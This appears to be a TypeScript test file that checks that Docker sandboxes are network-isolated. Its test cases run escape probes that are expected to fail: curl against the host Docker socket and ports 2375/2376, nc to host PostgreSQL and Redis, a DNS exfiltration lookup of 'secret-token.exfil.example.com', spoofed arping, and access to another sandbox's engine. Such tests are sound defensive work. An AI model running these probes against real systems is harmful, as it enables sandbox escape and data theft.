import Docker from 'dockerode';
import { networkInterfaces } from 'node:os';
import type { DockerSandbox } from '../../src/sandbox/docker-sandbox';
import {
  expectAllRefused,
  HOST_SERVICE_REPLY,
  tcpAttempts,
  withHostService,
} from '../integration/sandbox/sandbox-fixture';
import { hostileCase, run, specDriver, statusOf } from './hostile-case';

/** Reaching out: a sandbox has no network but its own; nothing of the host or of another sandbox answers. */

/** The host's first external IPv4 address (what a spoofed or raw packet would aim at). */
function hostAddress(): string {
  for (const [name, addresses] of Object.entries(networkInterfaces())) {
    if (/^(lo|docker|br-|veth|dg)/.test(name)) continue;
    const v4 = addresses?.find((a) => a.family === 'IPv4' && !a.internal);
    if (v4) return v4.address;
  }
  return '10.0.2.15';
}

const d = specDriver();

describe('network and neighbours', () => {
  hostileCase("the host's Docker engine", 'own engine socket; no network', d, async (sandbox) => {
    const hostId = (await new Docker().info()).ID as string;
    const local = await run(sandbox, 'curl -s --unix-socket /var/run/docker.sock http://docker/info');
    expect(local.output).not.toContain(hostId);
    const tcp = await run(
      sandbox,
      'curl -s -m 3 http://172.17.0.1:2375/info; curl -s -m 3 http://172.17.0.1:2376/info; echo rc=$?',
    );
    expect(tcp.output).not.toContain(hostId);
    expect(tcp.output).toMatch(/rc=[1-9]/);
    return statusOf(local, tcp);
  });

  hostileCase(
    "the host's PostgreSQL, Redis, a listener on the docker bridge, the internet",
    'no network (NetworkMode none)',
    d,
    async (sandbox) => {
      let results: Awaited<ReturnType<typeof run>>[] = [];
      const { connections } = await withHostService(async (port) => {
        const targets = [
          `172.17.0.1:${port}`,
          `127.0.0.1:${port}`,
          '127.0.0.1:5432',
          '127.0.0.1:6379',
          '1.1.1.1:80',
          'deb.debian.org:80',
        ];
        const fromShell = await run(sandbox, tcpAttempts(targets));
        const fromHostNet = await run(
          sandbox,
          `docker run --rm --network host alpine sh -c 'nc -w 3 127.0.0.1 5432 </dev/null; echo pg=$?; nc -w 3 127.0.0.1 6379 </dev/null; echo redis=$?; wget -T 3 -qO- http://172.17.0.1:${port}/ ; echo rc=$?'`,
        );
        for (const r of [fromShell, fromHostNet]) expect(r.output).not.toContain(HOST_SERVICE_REPLY);
        expectAllRefused(fromShell.output, targets);
        expect(fromHostNet.output).not.toMatch(/(pg|redis|rc)=0/);
        results = [fromShell, fromHostNet];
      });
      expect(connections).toBe(0);
      return statusOf(...results);
    },
  );

  hostileCase('DNS exfiltration', 'no network, no resolver', d, async (sandbox) => {
    const result = await run(
      sandbox,
      "getent hosts secret-token.exfil.example.com; echo shell=$?; docker run --rm alpine sh -c 'nslookup secret-token.exfil.example.com 1.1.1.1 >/dev/null 2>&1; echo inner=$?'",
    );
    expect(result.output).toMatch(/shell=[1-9]/);
    expect(result.output).toMatch(/inner=[1-9]/);
    return statusOf(result);
  });

  hostileCase(
    'raw sockets and spoofed packets',
    "the sandbox's own network namespace (nothing beyond it)",
    d,
    async (sandbox) => {
      const hostIp = hostAddress();
      const result = await run(
        sandbox,
        "ls /sys/class/net | tr '\\n' ' '; echo; " +
          `docker run --rm --cap-add NET_ADMIN --cap-add NET_RAW --network host alpine sh -c 'ip route | grep -c default; ping -c 1 -W 2 ${hostIp} >/dev/null 2>&1; echo host=$?; ping -c 1 -W 2 1.1.1.1 >/dev/null 2>&1; echo internet=$?; arping -c 1 -w 2 -s ${hostIp} -I docker0 ${hostIp} >/dev/null 2>&1; echo arping=$?'`,
      );
      const [links, defaults] = result.output.split('\n');
      expect(links.trim().split(' ').sort()).toEqual(['docker0', 'lo']);
      expect(defaults).toBe('0');
      expect(result.output).toMatch(/host=[1-9]/);
      expect(result.output).toMatch(/internet=[1-9]/);
      expect(result.output).toMatch(/arping=[1-9]/);
      return statusOf(result);
    },
  );

  hostileCase(
    "another sandbox's engine and containers",
    'own socket directory per sandbox (0700 on the host); separate namespaces',
    d,
    async (sandbox) => {
      const other = (await d().acquire()) as DockerSandbox;
      try {
        await other.exec('docker run -d --name victim alpine sleep 600', { timeoutMs: 30_000 });
        const probe = await run(
          sandbox,
          `curl -s -m 3 --unix-socket ${other.paths.socketPath} http://docker/containers/json; echo rc=$?; ls ${other.paths.dir}; docker ps -a --format '{{.Names}}'`,
        );
        expect(probe.output).not.toContain('victim');
        expect(probe.output).toMatch(/rc=[1-9]/);
        expect((await other.exec("docker ps --format '{{.Names}}'", { timeoutMs: 10_000 })).output).toBe('victim\n');
        return statusOf(probe);
      } finally {
        await d().release(other);
      }
    },
  );
});
